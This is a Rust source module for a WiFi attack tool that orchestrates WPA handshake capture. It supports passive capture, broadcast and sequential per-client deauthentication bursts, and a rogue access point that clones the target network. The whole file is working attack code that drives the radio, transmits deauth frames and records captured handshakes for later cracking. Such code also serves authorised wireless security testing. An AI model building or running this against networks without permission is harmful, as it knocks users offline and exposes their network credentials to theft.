//! WPA handshake attack orchestration
//!
//! One [`AttackOrchestrator`] owns at most one running attack session. Every
//! method shares the same lifecycle: tune the radio to the target channel and
//! start capturing, run the method's background task, and on `stop()` tear
//! down exactly what the method set up before returning the radio to idle
//! dual mode.
//!
//! Capture is always on while a session runs. Transmitting methods alternate
//! deauth bursts with capture windows on the same background task.

mod broadcast;
mod passive;
mod rogue_ap;
mod sequential;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;
use std::sync::atomic::{AtomicU16, Ordering};
use std::sync::{Arc, PoisonError};
use tokio::sync::{broadcast as channel, Mutex};
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};
use uuid::Uuid;

use crate::cancel::StopSignal;
use crate::capture::{CaptureWindow, FrameCapabilities};
use crate::config::AttackSettings;
use crate::error::{WifiCtlError, WifiCtlResult};
use crate::frames::DeauthFrame;
use crate::handshake::{FrameAnalyzer, Handshake, Observation};
use crate::radio::RadioController;
use crate::types::{ApConfig, AuthMode, MacAddress, NetworkDescriptor};
use crate::validation;

pub use sequential::ClientQueue;

/// Available handshake attack methods
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackMethod {
    Passive = 0,
    Broadcast = 1,
    RogueAp = 2,
    SequentialDeauth = 3,
}

impl TryFrom<u8> for AttackMethod {
    type Error = WifiCtlError;

    fn try_from(value: u8) -> WifiCtlResult<Self> {
        match value {
            0 => Ok(AttackMethod::Passive),
            1 => Ok(AttackMethod::Broadcast),
            2 => Ok(AttackMethod::RogueAp),
            3 => Ok(AttackMethod::SequentialDeauth),
            other => Err(WifiCtlError::InvalidParameter(format!(
                "Unknown attack method {}",
                other
            ))),
        }
    }
}

impl FromStr for AttackMethod {
    type Err = WifiCtlError;

    fn from_str(s: &str) -> WifiCtlResult<Self> {
        match s.to_ascii_lowercase().as_str() {
            "passive" => Ok(AttackMethod::Passive),
            "broadcast" => Ok(AttackMethod::Broadcast),
            "rogue-ap" | "rogueap" | "rogue_ap" => Ok(AttackMethod::RogueAp),
            "sequential-deauth" | "sequential" | "sequential_deauth" => {
                Ok(AttackMethod::SequentialDeauth)
            }
            _ => Err(WifiCtlError::InvalidParameter(format!(
                "Unknown attack method '{}'",
                s
            ))),
        }
    }
}

impl fmt::Display for AttackMethod {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackMethod::Passive => "passive",
            AttackMethod::Broadcast => "broadcast",
            AttackMethod::RogueAp => "rogue-ap",
            AttackMethod::SequentialDeauth => "sequential-deauth",
        };
        f.write_str(name)
    }
}

/// Caller-built description of one attack
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackConfig {
    pub method: AttackMethod,
    pub target: NetworkDescriptor,
    /// Target credential, at most 63 bytes
    pub password: Option<String>,
    /// Clients known before the attack starts, swept first by SequentialDeauth
    #[serde(default)]
    pub known_clients: Vec<MacAddress>,
}

impl AttackConfig {
    pub fn new(method: AttackMethod, target: NetworkDescriptor) -> Self {
        Self {
            method,
            target,
            password: None,
            known_clients: Vec::new(),
        }
    }

    pub fn with_known_clients(mut self, clients: impl IntoIterator<Item = MacAddress>) -> Self {
        self.known_clients.extend(clients);
        self
    }

    pub fn validate(&self) -> WifiCtlResult<()> {
        self.target.validate()?;
        if self.target.bssid.is_multicast() {
            return Err(WifiCtlError::InvalidParameter(format!(
                "Target BSSID must be unicast, got {}",
                self.target.bssid
            )));
        }
        if let Some(password) = &self.password {
            validation::validate_sta_password(password)?;
        }
        if let Some(client) = self.known_clients.iter().find(|c| c.is_multicast()) {
            return Err(WifiCtlError::InvalidParameter(format!(
                "Client address must be unicast, got {}",
                client
            )));
        }
        if self.method == AttackMethod::RogueAp && self.target.auth_mode == AuthMode::Wpa2Enterprise {
            return Err(WifiCtlError::InvalidParameter(
                "Rogue AP cannot clone a WPA2-Enterprise network".to_string()
            ));
        }
        Ok(())
    }
}

/// Progress notifications published while a session runs
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackEvent {
    ClientDiscovered(MacAddress),
    /// SequentialDeauth moved on to this client
    ClientTargeted(MacAddress),
    /// SequentialDeauth ran out of clients
    SweepExhausted { visited: usize },
    HandshakeCaptured(Handshake),
}

/// Public view of the running session
#[derive(Debug, Clone, Serialize)]
pub struct AttackStatus {
    pub id: Uuid,
    pub method: AttackMethod,
    pub target: NetworkDescriptor,
    pub started_at: DateTime<Utc>,
    pub handshake: Option<Handshake>,
    /// Clients deauthenticated so far, in sweep order
    pub clients_targeted: Vec<MacAddress>,
}

/// Per-method working state
enum MethodState {
    Passive,
    Broadcast,
    RogueAp { ap_config: ApConfig },
    SequentialDeauth { queue: Arc<ClientQueue> },
}

/// Results the background task reports back to the session
#[derive(Debug, Default)]
struct SessionProgress {
    handshake: std::sync::Mutex<Option<Handshake>>,
    targeted: std::sync::Mutex<Vec<MacAddress>>,
}

impl SessionProgress {
    fn handshake(&self) -> Option<Handshake> {
        self.handshake
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    fn set_handshake(&self, handshake: Handshake) {
        *self.handshake.lock().unwrap_or_else(PoisonError::into_inner) = Some(handshake);
    }

    fn targeted(&self) -> Vec<MacAddress> {
        self.targeted
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    fn push_targeted(&self, client: MacAddress) {
        self.targeted
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(client);
    }
}

struct AttackSession {
    id: Uuid,
    started_at: DateTime<Utc>,
    config: AttackConfig,
    state: MethodState,
    stop: StopSignal,
    progress: Arc<SessionProgress>,
    task: JoinHandle<()>,
}

/// Everything a strategy's background task works with
struct StrategyContext {
    frames: Arc<dyn FrameCapabilities>,
    target: NetworkDescriptor,
    settings: AttackSettings,
    stop: StopSignal,
    progress: Arc<SessionProgress>,
    events: channel::Sender<AttackEvent>,
    sequence: AtomicU16,
}

impl StrategyContext {
    fn window(&self) -> CaptureWindow<'_> {
        CaptureWindow {
            frames: self.frames.as_ref(),
            stop: &self.stop,
            slice: self.settings.capture_slice(),
        }
    }

    fn analyzer(&self) -> FrameAnalyzer {
        FrameAnalyzer::new(self.target.bssid)
    }

    fn publish(&self, event: AttackEvent) {
        // No subscribers is fine
        let _ = self.events.send(event);
    }

    fn observe(&self, observation: &Observation) {
        match observation {
            Observation::ClientDiscovered(client) => {
                self.publish(AttackEvent::ClientDiscovered(*client));
            }
            Observation::HandshakeCaptured(_) => {}
        }
    }

    /// Record success; the strategy goes idle afterwards
    fn captured(&self, handshake: Handshake) {
        info!(
            "Handshake for {} captured from client {}, attack idle until stopped",
            self.target.ssid_lossy(),
            handshake.client
        );
        self.progress.set_handshake(handshake.clone());
        self.publish(AttackEvent::HandshakeCaptured(handshake));
    }

    /// Transmit `deauth_burst` rounds of `frames`. Returns false if stopped
    /// part way.
    async fn transmit_burst(&self, frames: &[DeauthFrame]) -> bool {
        for _ in 0..self.settings.deauth_burst {
            for frame in frames {
                if self.stop.is_stopped() {
                    return false;
                }
                let sequence = self.sequence.fetch_add(1, Ordering::Relaxed);
                let bytes = frame.clone().with_sequence(sequence).to_bytes();
                if let Err(e) = self.frames.transmit(&bytes).await {
                    warn!("Failed to transmit deauth to {}: {}", frame.destination, e);
                }
            }
        }
        !self.stop.is_stopped()
    }
}

/// Attack orchestrator
pub struct AttackOrchestrator {
    radio: Arc<RadioController>,
    frames: Arc<dyn FrameCapabilities>,
    settings: AttackSettings,
    session: Mutex<Option<AttackSession>>,
    events: channel::Sender<AttackEvent>,
}

impl AttackOrchestrator {
    pub fn new(
        radio: Arc<RadioController>,
        frames: Arc<dyn FrameCapabilities>,
        settings: AttackSettings,
    ) -> Self {
        let (events, _) = channel::channel(64);
        Self {
            radio,
            frames,
            settings,
            session: Mutex::new(None),
            events,
        }
    }

    /// Subscribe to attack progress
    pub fn subscribe(&self) -> channel::Receiver<AttackEvent> {
        self.events.subscribe()
    }

    /// Start an attack. Fails without side effects if a session is already
    /// running or the config is invalid.
    pub async fn start(&self, config: AttackConfig) -> WifiCtlResult<Uuid> {
        let mut slot = self.session.lock().await;
        if let Some(active) = slot.as_ref() {
            return Err(WifiCtlError::InvalidState(format!(
                "{} attack already running (session {})",
                active.config.method, active.id
            )));
        }
        config.validate()?;
        self.settings.validate()?;

        info!(
            "Starting {} handshake attack on {} ({}, channel {})",
            config.method,
            config.target.ssid_lossy(),
            config.target.bssid,
            config.target.channel
        );
        self.radio.initialize().await?;
        let state = self.prepare(&config).await?;

        let stop = StopSignal::new();
        let progress = Arc::new(SessionProgress::default());
        let ctx = StrategyContext {
            frames: self.frames.clone(),
            target: config.target.clone(),
            settings: self.settings.clone(),
            stop: stop.clone(),
            progress: progress.clone(),
            events: self.events.clone(),
            sequence: AtomicU16::new(0),
        };
        let task = match &state {
            MethodState::Passive => tokio::spawn(passive::run(ctx)),
            MethodState::Broadcast => tokio::spawn(broadcast::run(ctx)),
            MethodState::RogueAp { .. } => tokio::spawn(rogue_ap::run(ctx)),
            MethodState::SequentialDeauth { queue } => {
                tokio::spawn(sequential::run(ctx, queue.clone()))
            }
        };

        let id = Uuid::new_v4();
        *slot = Some(AttackSession {
            id,
            started_at: Utc::now(),
            config,
            state,
            stop,
            progress,
            task,
        });
        debug!("Attack session {} running", id);
        Ok(id)
    }

    /// Tune and start capture, then the method's own setup. Rolls back on
    /// failure.
    async fn prepare(&self, config: &AttackConfig) -> WifiCtlResult<MethodState> {
        let target = &config.target;
        self.radio.lock_channel(target.channel).await?;
        if let Err(e) = self.frames.start_capture(target.channel).await {
            self.radio.release_channel().await;
            return Err(e);
        }

        let state = match config.method {
            AttackMethod::Passive => Ok(MethodState::Passive),
            AttackMethod::Broadcast => Ok(MethodState::Broadcast),
            AttackMethod::RogueAp => rogue_ap::prepare(&self.radio, target, &self.settings)
                .await
                .map(|ap_config| MethodState::RogueAp { ap_config }),
            AttackMethod::SequentialDeauth => Ok(MethodState::SequentialDeauth {
                queue: Arc::new(ClientQueue::new(
                    target.bssid,
                    config.known_clients.iter().copied(),
                )),
            }),
        };

        if state.is_err() {
            if let Err(e) = self.frames.stop_capture().await {
                warn!("Failed to stop capture during rollback: {}", e);
            }
            self.radio.release_channel().await;
        }
        state
    }

    /// Stop the running attack, if any, and return the radio to idle dual
    /// mode. Calling it with no session is a no-op.
    pub async fn stop(&self) -> WifiCtlResult<()> {
        // Held until teardown completes so no new session can start mid-way
        let mut slot = self.session.lock().await;
        let Some(session) = slot.take() else {
            debug!("No attack running");
            return Ok(());
        };

        info!("Stopping {} attack (session {})", session.config.method, session.id);
        session.stop.stop();

        let mut task = session.task;
        match tokio::time::timeout(self.settings.stop_timeout(), &mut task).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => warn!("Attack task ended abnormally: {}", e),
            Err(_) => {
                warn!(
                    "Attack task did not stop within {:?}, aborting",
                    self.settings.stop_timeout()
                );
                task.abort();
            }
        }

        let mut first_error = None;
        if let MethodState::RogueAp { ap_config } = &session.state {
            debug!("Tearing down rogue AP {}", ap_config.ssid_lossy());
            if let Err(e) = rogue_ap::teardown(&self.radio, &self.settings).await {
                warn!("Rogue AP teardown failed: {}", e);
                first_error.get_or_insert(e);
            }
        }
        if let Err(e) = self.frames.stop_capture().await {
            warn!("Failed to stop capture: {}", e);
            first_error.get_or_insert(e);
        }
        if let Err(e) = self.radio.reset_to_idle().await {
            warn!("Failed to return radio to idle: {}", e);
            first_error.get_or_insert(e);
        }

        info!("Attack stopped");
        match first_error {
            Some(e) => Err(e),
            None => Ok(()),
        }
    }

    pub async fn is_running(&self) -> bool {
        self.session.lock().await.is_some()
    }

    pub async fn status(&self) -> Option<AttackStatus> {
        let slot = self.session.lock().await;
        slot.as_ref().map(|session| AttackStatus {
            id: session.id,
            method: session.config.method,
            target: session.config.target.clone(),
            started_at: session.started_at,
            handshake: session.progress.handshake(),
            clients_targeted: session.progress.targeted(),
        })
    }

    /// Append clients to a running SequentialDeauth sweep. Returns how many
    /// were new.
    pub async fn extend_clients(
        &self,
        clients: impl IntoIterator<Item = MacAddress>,
    ) -> WifiCtlResult<usize> {
        let slot = self.session.lock().await;
        match slot.as_ref().map(|s| &s.state) {
            Some(MethodState::SequentialDeauth { queue }) => {
                Ok(clients.into_iter().filter(|c| queue.push(*c)).count())
            }
            Some(_) => Err(WifiCtlError::InvalidState(
                "Client list only applies to sequential deauth".to_string()
            )),
            None => Err(WifiCtlError::InvalidState("No attack running".to_string())),
        }
    }
}
